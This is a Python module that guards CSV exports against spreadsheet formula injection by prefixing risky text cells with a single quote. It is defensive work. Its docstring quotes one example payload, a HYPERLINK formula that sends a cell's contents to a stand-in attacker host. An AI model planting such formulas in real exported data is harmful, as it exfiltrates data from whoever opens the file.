"""Cells of every CSV file ceasefire writes, safe to open in a spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return before one) as a formula, so an actor named ``=HYPERLINK("http://evil.example/?"&A1)``
in imported data would run on the analyst's machine. Following OWASP's CSV injection advice,
such a text cell is written with a single quote before it; numbers, and text that is a plain
number such as ``-3.2``, are written as they are. JSON and GeoJSON keep the raw value.
"""

from __future__ import annotations

import re
from collections.abc import Mapping

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """The value as a spreadsheet should show it: a text cell that would start a formula gets a
    leading single quote; anything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row: Mapping[str, object]) -> dict[str, object]:
    """A row for ``csv.DictWriter`` with every cell passed through ``safe_cell``."""
    return {column: safe_cell(value) for column, value in row.items()}
